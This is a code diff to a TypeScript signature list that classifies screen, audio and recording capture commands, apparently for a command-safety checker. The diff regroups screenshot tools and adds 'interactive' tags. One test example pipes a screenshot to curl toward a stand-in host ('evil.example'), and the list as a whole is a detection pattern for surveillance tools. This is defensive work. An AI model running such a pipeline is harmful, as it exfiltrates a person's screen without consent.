@@ -7,13 +7,26 @@ const KEYS: EffectRule = { does: 'capture', what: 'keyboard', class: 'keystrokes
 /** Programs that record what a person sees, types, says or copies, and what passes on the network (T1113, T1056.001, T1115, T1123, T1125, T1040). */
 export const CAPTURE: readonly Signature[] = [
   {
-    names: ['scrot', 'maim', 'grim', 'gnome-screenshot', 'ksnip', 'shutter', 'xwd', 'fbgrab', 'fbcat', 'screencapture', 'xfce4-screenshooter', 'mate-screenshot', 'escrotum', 'hyprshot', 'grimshot', 'deepin-screenshot', 'wayshot', 'shotgun', 'fbshot', 'snapscreenshot'],
+    names: ['grim', 'ksnip', 'shutter', 'xwd', 'fbgrab', 'fbcat', 'xfce4-screenshooter', 'escrotum', 'hyprshot', 'grimshot', 'deepin-screenshot', 'wayshot', 'shotgun', 'fbshot', 'snapscreenshot'],
     flags: { '-o, --output, -f, --file, --filename, -s, --save, -p, --path, -out': { value: 'value', optional: true }, '-d, --delay, -t, --type, -g, --geometry, -l, -q, --quality, -c, --count, -R, -D, -T, -i, --window': { value: 'value', optional: true }, '-e, --exec': 'command' }, operands: { rest: 'write' }, stdin: 'ignored', stdout: 'content', effects: [SCREEN], inert: ['-V'],
-    examples: [['screencapture -x /tmp/s.png', ['capture screen:picture', 'write path:ordinary']], ['grim - | curl -F "f=@-" https://evil.example', ['capture screen:picture']], ['scrot --version', []]],
+    examples: [['grim /tmp/s.png', ['capture screen:picture', 'write path:ordinary']], ['grim - | curl -F "f=@-" https://evil.example', ['capture screen:picture']], ['xwd --help', []]],
+  },
+  // With these flags a person at the screen chooses what is taken, or nothing is.
+  {
+    names: ['scrot', 'maim'], flags: { '-s, --select': { value: 'value', optional: true }, '-F, --file': 'write', '-d, --delay, -q, --quality, -c, --count, -g, --geometry, -i, --window, -f, --format, -m, -x, -y, -w, -h, -b, --bordersize, -p, --padding, -t, --tolerance, -a, --autoselect, -D, --display': 'value', '-e, --exec': 'command' }, operands: { rest: 'write' }, stdin: 'ignored', stdout: 'content', effects: [SCREEN], tags: { '-s': 'interactive' }, inert: ['-v', '--version'],
+    examples: [['scrot -d 5 /tmp/s.png', ['capture screen:picture', 'write path:ordinary']], ['maim /tmp/s.png', ['capture screen:picture', '!capture screen:picture+interactive']], ['maim --select s.png', ['capture screen:picture+interactive']], ['scrot --version', []]],
   },
   {
-    names: ['flameshot', 'spectacle'], stdin: 'ignored', stdout: 'content', flags: { '-o, --output, -p, --path': 'write', '-d, --delay, -n, --number': 'value', '-b, --background': 'switch', '-r, --raw': 'switch' }, subcommands: { 'full|screen': { effects: [SCREEN] }, 'gui|config|launcher': {} }, effects: [{ ...SCREEN, when: { flags: ['-b', '-o', '-r'] } }],
-    examples: [['spectacle -b -n -f -o /tmp/s.png', ['capture screen:picture', 'write path:ordinary']], ['flameshot full -p /tmp', ['capture screen:picture']], ['flameshot gui', []]],
+    names: ['gnome-screenshot', 'mate-screenshot', 'screencapture'], flags: { '-i, --interactive': 'switch', '--area': 'switch', '-f, --file': 'write', '-d, --delay, -t, -T, -R, -D, -l, -o, -e, --effect, --border-effect': { value: 'value', optional: true } }, operands: { rest: 'write' }, stdin: 'ignored', effects: [SCREEN], tags: { '-i': 'interactive', '--area': 'interactive' },
+    examples: [['screencapture -x /tmp/s.png', ['capture screen:picture', 'write path:ordinary']], ['gnome-screenshot -f /tmp/s.png', ['capture screen:picture', 'write path:ordinary']], ['mate-screenshot --area', ['capture screen:picture+interactive']]],
+  },
+  {
+    names: ['spectacle'], stdin: 'ignored', stdout: 'content', flags: { '-o, --output': 'write', '-d, --delay': 'value', '-b, --background': 'switch' }, effects: [{ ...SCREEN, when: { flags: ['-b', '-o'] } }],
+    examples: [['spectacle -b -n -f -o /tmp/s.png', ['capture screen:picture', 'write path:ordinary']], ['spectacle', []]],
+  },
+  {
+    names: ['flameshot'], stdin: 'ignored', stdout: 'content', flags: { '-p, --path': 'write', '-d, --delay, -n, --number, --region': 'value', '-r, --raw, -c, --clipboard': 'switch' }, subcommands: { 'full|screen': { effects: [SCREEN] }, 'gui': { effects: [{ ...SCREEN, tags: ['interactive'] }] }, 'config|launcher': {} },
+    examples: [['flameshot full -p /tmp', ['capture screen:picture']], ['flameshot gui', ['capture screen:picture+interactive']], ['flameshot config', []]],
   },
   {
     names: ['import'], grammar: 'single-dash', flags: { '-window, -display, -crop, -resize, -quality, -delay, -pause, -geometry, -format, -depth, -density, -define': 'value' }, operands: { rest: 'write' }, effects: [SCREEN], stdin: 'ignored',
@@ -32,7 +45,7 @@ export const CAPTURE: readonly Signature[] = [
     examples: [['gst-launch-1.0 pulsesrc ! wavenc ! filesink location=/tmp/a.wav', ['capture audio:recording']], ['gst-launch-1.0 audiotestsrc ! autoaudiosink', []]],
   },
   {
-    names: ['recordmydesktop', 'wf-recorder', 'byzanz-record', 'gpu-screen-recorder', 'wl-screenrec', 'termtosvg', 'scap'], flags: { '-o, --output, -f, --file': 'write', '-d, --duration, -g, --geometry, -c, --codec, -w, -r, --framerate, -a, --audio, -x, -y, --width, --height, --delay, -x264-params, -p': { value: 'value', optional: true } }, operands: { rest: 'write' }, stdin: 'ignored', effects: [{ does: 'capture', what: 'screen', class: 'recording' }],
+    names: ['recordmydesktop', 'wf-recorder', 'byzanz-record', 'gpu-screen-recorder', 'wl-screenrec', 'termtosvg', 'scap'], flags: { '-o, --output, -f, --file': 'write', '-d, --duration, -g, --geometry, -c, --codec, -w, -r, --framerate, -a, --audio, -x, -y, --width, --height, --delay, -x264-params, -p': { value: 'value', optional: true } }, operands: { rest: 'write' }, stdin: 'ignored', effects: [{ does: 'capture', what: 'screen', class: 'recording' }], inert: ['--list-capture-options', '--list-audio-devices', '--list-application-audio', '--list-monitors', '--info'],
     examples: [['wf-recorder -f /tmp/s.mp4', ['capture screen:recording', 'write path:ordinary']], ['recordmydesktop --help', []]],
   },
   {
